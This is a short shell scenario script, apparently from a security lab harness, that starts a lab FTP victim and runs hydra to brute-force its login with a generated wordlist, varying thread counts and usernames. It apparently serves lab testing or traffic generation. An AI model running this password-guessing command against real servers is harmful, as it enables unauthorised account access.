# SPDX-License-Identifier: MIT
# label: bruteforce-ftp
# source: lab-hydra
# needs: hydra
# seconds: 60
# Passwords for ftp by hydra.
. $lab/victims.sh

servers() {
	victim_ftp b
	words_up 100
}

scenario() {
	cd "$work" || return
	_tasks=$(choose 1 4 16)
	setting options "-t $_tasks"
	attack s b tcp 21 -- timeout 50 hydra -I -t "$_tasks" -l "$(choose lab admin ftp)" \
		-P "$work/words" "$(addr b)" ftp
}
